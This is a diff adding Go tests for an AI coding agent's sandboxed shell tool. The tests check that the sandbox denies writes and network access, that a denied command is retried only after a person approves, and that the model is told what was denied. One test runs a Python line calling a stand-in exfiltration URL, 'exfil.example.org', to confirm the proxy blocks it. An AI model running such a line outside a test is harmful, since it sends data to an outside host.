@@ -1,0 +1,120 @@
+//go:build linux
+
+package tools
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/govibe/govibe/server/internal/netproxy"
+	"github.com/govibe/govibe/server/internal/osbox"
+)
+
+// sandboxedEnv is newEnv with the real OS sandbox and a real proxy that
+// refuses everything (so no test reaches the network).
+func sandboxedEnv(t *testing.T, ap Approver) (*Env, string) {
+	t.Helper()
+	st := osbox.Detect()
+	if st.Mechanism != osbox.Bubblewrap {
+		if os.Getenv("CI") != "" {
+			t.Fatalf("CI must provide bubblewrap: %s", st.Reason)
+		}
+		t.Skip("bubblewrap is not available: " + st.Reason)
+	}
+	env, root := newEnv(t)
+	env.Settings.ConfirmShell = true
+	env.Approver = ap
+	sb := NewSandboxEnv(st, nil, 256, 2048)
+	sb.Home = t.TempDir()
+	sb.Proxy = func(bool) (string, func() []string, error) { return netproxy.Ephemeral(func(string) bool { return false }) }
+	env.Sandbox = sb
+	return env, root
+}
+
+func runShellRaw(t *testing.T, env *Env, command string) Result {
+	t.Helper()
+	raw, _ := json.Marshal(map[string]any{"command": command})
+	res, err := RunShellCommand().Run(context.Background(), env, raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return res
+}
+
+// A command auto-approved read-only that tries to write is told exactly
+// what the sandbox denied; a person who allows writing gets it run again,
+// and it succeeds. Without a person nothing is retried.
+func TestSandboxDeniedWriteThenRunAgainWithWriteAccess(t *testing.T) {
+	ap := &fakeApprover{shell: func(p ShellProposal) ShellDecision {
+		if p.Denial != nil {
+			return ShellDecision{Allowed: true, Command: p.Command, Grant: SandboxGrant{Write: true}}
+		}
+		return ShellDecision{Allowed: true, Command: p.Command} // read-only grant
+	}}
+	env, root := sandboxedEnv(t, ap)
+	res := runShellRaw(t, env, "echo made > out.txt && cat out.txt")
+	if !res.OK || !strings.Contains(res.Output, "made") {
+		t.Fatalf("the run again with write access failed: %+v", res)
+	}
+	if readBack(t, filepath.Join(root, "out.txt")) != "made\n" {
+		t.Fatal("the file was not written by the second run")
+	}
+	if len(ap.shells) != 2 || ap.shells[1].Denial == nil || !ap.shells[1].Denial.Write {
+		t.Fatalf("the person was not asked about the denial: %+v", ap.shells)
+	}
+	if !strings.Contains(res.Output, "The OS sandbox denied this command: writing out.txt") || !strings.Contains(res.Output, "ran again (workspace-write") {
+		t.Fatalf("the model is not told what happened: %s", res.Output)
+	}
+	meta := res.Meta.(ShellMeta)
+	if !strings.HasPrefix(meta.Sandbox, "workspace-write") {
+		t.Fatalf("the card must say how it ran: %q", meta.Sandbox)
+	}
+}
+
+func TestSandboxDenialWithoutAPersonIsNotRetried(t *testing.T) {
+	ap := &fakeApprover{shell: func(p ShellProposal) ShellDecision {
+		if p.Denial != nil {
+			return ShellDecision{Reason: "headless"}
+		}
+		return ShellDecision{Allowed: true, Command: p.Command}
+	}}
+	env, root := sandboxedEnv(t, ap)
+	res := runShellRaw(t, env, "touch planted.txt")
+	if res.OK {
+		t.Fatalf("a read-only sandbox let a write through: %+v", res)
+	}
+	if _, err := os.Stat(filepath.Join(root, "planted.txt")); err == nil {
+		t.Fatal("the write happened")
+	}
+	m := res.Meta.(ShellMeta)
+	if m.Denial == nil || !m.Denial.Write || !strings.Contains(res.Output, "writing planted.txt") || m.Sandbox != "read-only; no network" {
+		t.Fatalf("denial not reported: %+v\n%s", m, res.Output)
+	}
+}
+
+// A network client in a command without network is refused by the proxy
+// before any lookup, and the denial names the domain.
+func TestSandboxNetworkDenialNamesTheDomain(t *testing.T) {
+	if _, err := os.Stat("/usr/bin/python3"); err != nil {
+		t.Skip("python3 is needed for the client")
+	}
+	ap := &fakeApprover{shell: func(p ShellProposal) ShellDecision {
+		if p.Denial != nil {
+			return ShellDecision{Reason: "no"}
+		}
+		return ShellDecision{Allowed: true, Command: p.Command}
+	}}
+	env, _ := sandboxedEnv(t, ap)
+	res := runShellRaw(t, env, `python3 -c "import urllib.request; urllib.request.urlopen('https://exfil.example.org/x?d=1', timeout=5)"`)
+	m := res.Meta.(ShellMeta)
+	if res.OK || m.Denial == nil || len(m.Denial.Domains) != 1 || m.Denial.Domains[0] != "exfil.example.org" {
+		t.Fatalf("network denial not named: %+v\n%s", m.Denial, res.Output)
+	}
+	if !strings.Contains(res.Output, "network access to exfil.example.org") {
+		t.Fatalf("the model is not told the domain: %s", res.Output)
+	}
+}
